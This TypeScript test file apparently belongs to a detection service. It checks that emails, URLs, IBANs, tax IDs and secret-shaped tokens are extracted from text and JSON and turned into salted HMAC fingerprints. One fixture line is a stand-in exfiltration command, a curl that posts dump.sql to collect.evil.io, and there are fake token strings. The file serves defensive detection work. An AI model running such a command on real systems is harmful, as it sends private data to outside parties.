/**
 * Entities in content and intents, and their salted fingerprints (docs/detection.md 3.3).
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  contentText,
  entityFingerprints,
  extractEntities,
  fingerprint,
  identifier,
  newSalt,
  secretTokens,
  valueKeys,
} from '../../services/decision/src/flow/entities.js';

const kinds = (content: unknown) => extractEntities(content).map((e) => `${e.kind}:${e.value}`);

describe('entities', () => {
  test('from text: addresses, URLs, domains, IBANs, channels, paths, commands, amounts', () => {
    const text = [
      'From: Mallory <Mallory@Evil.io>. Details at https://evil.io/pay?id=7, mirror www.backup-drop.net/x.',
      'Also see portal.vendor.co. Pay EUR 4,999.00 to DE89 3704 0044 0532 0130 00 (not DE89 3704 0044 0532 0130 01).',
      'Discuss in #ext-vendors; the export is in /srv/exports/q3.csv.',
      '$ curl -d @dump.sql https://collect.evil.io/in',
    ].join('\n');
    assert.deepEqual(kinds(text), [
      'email:mallory@evil.io',
      'url:https://evil.io/pay?id=7',
      'url:http://www.backup-drop.net/x',
      'url:https://collect.evil.io/in',
      'host:www.backup-drop.net',
      'host:portal.vendor.co',
      'account:DE89370400440532013000',
      'channel:ext-vendors',
      'path:/srv/exports/q3.csv',
      'command:curl -d @dump.sql https://collect.evil.io/in',
      'amount:4999',
    ]);
  });

  test('URLs of transfer schemes are URLs with their host', () => {
    const text = 'resubmit to sftp://ingest.lumora-dr.net:2222/fenwick/HEL-0231 or ssh://git@code.evil.io/x.git';
    assert.deepEqual(
      kinds(text).filter((k) => k.startsWith('url:') || k.startsWith('host:')),
      ['url:sftp://ingest.lumora-dr.net/fenwick/HEL-0231', 'url:ssh://code.evil.io/x.git'],
    );
  });

  test('an address in a query string, a path or quotes is the address alone', () => {
    const text = "see https://x.io/?email=ann@acme.com, post to=bob@y.io, where e = 'o'brien@z.io'";
    assert.deepEqual(
      kinds(text).filter((k) => k.startsWith('email:')),
      ['email:ann@acme.com', 'email:bob@y.io', "email:o'brien@z.io"],
    );
  });

  test('from JSON: strings anywhere, and members whose names give a kind', () => {
    const content = {
      rows: [
        { name: 'Acme Ltd', email: 'billing@acme-ltd.com', payee_id: 'p-2002', iban: 'GB29NWBK60161331926819' },
        { note: 'call ops@partner.io', amount: { amount: 120, currency: 'EUR' }, user: 'jdoe' },
      ],
    };
    assert.deepEqual(kinds(content), [
      'email:billing@acme-ltd.com',
      'payee:p-2002',
      'account:GB29NWBK60161331926819',
      'email:ops@partner.io',
      'amount:120',
      'principal:jdoe',
    ]);
    assert.equal(
      contentText(content),
      'Acme Ltd\nbilling@acme-ltd.com\np-2002\nGB29NWBK60161331926819\ncall ops@partner.io\nEUR\njdoe',
    );
  });

  test('at most the limit, first found first', () => {
    const many = Array.from({ length: 400 }, (_, i) => `u${i}@x${i}.io`).join(' ');
    const found = extractEntities(many, 10);
    assert.equal(found.length, 10);
    assert.equal(found[0]?.value, 'u0@x0.io');
  });
});

describe('identifier tokens', () => {
  const ids = (content: unknown, limit = 128) =>
    extractEntities(content, 256, limit)
      .filter((e) => e.kind === 'id')
      .map((e) => e.value);

  test('tax ids, customer, phone and policy numbers, UUIDs, in their normal form', () => {
    const text = [
      'Acme GmbH, VAT DE811234567 (FR 40 303 265 045 in France), customer C-003881.',
      'Call +49 40 5550 1288 about policy POL-2023-88812; record 550e8400-e29b-41d4-a716-446655440000.',
      'Steuernummer 21/815/08150, see https://crm.acme.com/c/C-003882?vat=ATU68120934.',
    ].join('\n');
    assert.deepEqual(ids(text), [
      'DE811234567',
      'FR40303265045',
      'C003881',
      '494055501288',
      'POL202388812',
      '550E8400E29B41D4A716446655440000',
      '2181508150',
      'C003882',
      'ATU68120934',
    ]);
    assert.deepEqual(ids({ customer: { vat_id: 'DE 811 234 567', number: 'C-003881' } }), ['DE811234567', 'C003881']);
  });

  test('dates, times, periods, amounts, counts, versions and words are not identifiers', () => {
    const text = [
      'On 2024-01-31, 31.01.2024, 01/31/2024 and 2024-01-31T10:20:00Z (2024-01-31 10:20:00) we paid',
      'EUR 12,500.00, $1,200,000 and 12500000 for 1.234.567 units; FY2024-Q3, 2023/2024, KW12-2024;',
      'ISO-27001, COVID-19, Windows10, release 10.4.12.3, order 12 was shipped; 1749640800; 1600x900.',
    ].join('\n');
    assert.deepEqual(ids(text), []);
    for (const token of ['2024-01-31', '20240131', '1.234.567', '1 200 000', 'v2-beta-12', 'Q3-2024']) {
      assert.equal(identifier(token), undefined, token);
    }
  });

  test('not an IBAN or an address again, and only when asked for, at most the limit', () => {
    const text = 'Pay DE89 3704 0044 0532 0130 00 for ann.12345678@acme.com, invoice INV-2024-0042.';
    assert.deepEqual(
      extractEntities(text, 256, 128).map((e) => `${e.kind}:${e.value}`),
      ['email:ann.12345678@acme.com', 'account:DE89370400440532013000', 'id:INV20240042'],
    );
    assert.deepEqual(ids(text, 0), [], 'none unless asked for');
    const many = Array.from({ length: 200 }, (_, i) => `C-${String(100000 + i)}`).join(' ');
    assert.equal(ids(many).length, 128);
    assert.equal(extractEntities(many, 5, 128).length, 128, 'identifiers have their own bound');
  });

  test('key- and token-like strings of content, by shape and density, values of assignments alone', () => {
    assert.deepEqual(
      secretTokens(
        'KEY=cdn_glob_9f3Kx2LqW7vT0aZ8mR4pN6sB1dYc5Hj see /Engineering/Runbooks/CDN.md, ' +
          'run https://ci.example.internal/runs/88219, id ORDER-2025-000123, word Supercalifragilistic',
      ),
      ['cdn_glob_9f3Kx2LqW7vT0aZ8mR4pN6sB1dYc5Hj'],
    );
    const two = 'ghs_9f3Kx2LqW7vT0aZ8mR4pN6sB1dYc5Hj and Zq81LmNw4Rt7Yp2Xc5Vb9Kd3Hs6Jf0Ga';
    assert.equal(secretTokens(two).length, 2);
    assert.equal(secretTokens(two, 1).length, 1, 'at most the limit');
    assert.deepEqual(secretTokens('aB3'.repeat(30)), [], 'a repeated pattern holds little information');
  });

  test('an identifier shaped like an IBAN but not one (an EORI, a bill of lading) is an identifier', () => {
    assert.deepEqual(ids('Orlik Trading PL5272846131 BWLNGB25091138 spindle motors'), [
      'PL5272846131',
      'BWLNGB25091138',
    ]);
  });
});

describe('fingerprints', () => {
  test('HMAC of kind:value under the session salt, 16 base64url characters', () => {
    const salt = 'c2FsdHNhbHRzYWx0c2FsdA';
    const fp = fingerprint(salt, 'email', 'a@x.io');
    assert.match(fp, /^[A-Za-z0-9_-]{16}$/);
    assert.equal(fingerprint(salt, 'email', 'a@x.io'), fp, 'deterministic under one salt');
    assert.notEqual(fingerprint(newSalt(), 'email', 'a@x.io'), fp, 'another session, another fingerprint');
    assert.notEqual(fingerprint(salt, 'host', 'a@x.io'), fp, 'the kind is part of it');
  });

  test('addresses and URLs also give their host; a principal that is an address is one', () => {
    assert.deepEqual(valueKeys({ kind: 'email', value: 'a@x.io', host: 'x.io' }), {
      exact: 'email:a@x.io',
      host: 'host:x.io',
    });
    assert.deepEqual(valueKeys({ kind: 'principal', value: 'a@x.io', host: 'x.io' }), {
      exact: 'email:a@x.io',
      host: 'host:x.io',
    });
    assert.deepEqual(valueKeys({ kind: 'url', value: 'https://x.io/a', host: 'x.io', key: 'x.io/a' }), {
      exact: 'url:x.io/a',
      host: 'host:x.io',
    });
    assert.deepEqual(valueKeys({ kind: 'text', value: 'hello' }), {});
    assert.deepEqual(valueKeys({ kind: 'id', value: 'DE811234567' }), { exact: 'id:DE811234567' });
    const salt = newSalt();
    const fps = entityFingerprints(salt, extractEntities('write to a@x.io or b@x.io'));
    assert.deepEqual(fps, [
      fingerprint(salt, 'email', 'a@x.io'),
      fingerprint(salt, 'host', 'x.io'),
      fingerprint(salt, 'email', 'b@x.io'),
    ]);
  });

  test('no raw value survives in a fingerprint list', () => {
    const fps = entityFingerprints(newSalt(), extractEntities('secret-partner@hidden.io'));
    assert.ok(!JSON.stringify(fps).includes('hidden'));
  });
});

test('an identifier member is taken whole, whatever its spacing', () => {
  const ids = (content: unknown) =>
    extractEntities(content, 64, 128)
      .filter((e) => e.kind === 'id')
      .map((e) => e.value);
  assert.deepEqual(ids({ tax_id: '47 036 892 816', vat: 'FR 40 303 265 045', count: 12, client_id: 'C-12' }), [
    '47036892816',
    'FR40303265045',
  ]);
  assert.deepEqual(ids({ tax_id: '47 036 892 816' }).length, 1);
  assert.deepEqual(
    extractEntities({ tax_id: '47 036 892 816' }, 64, 0).filter((e) => e.kind === 'id'),
    [],
    'no identifiers unless asked for',
  );
});
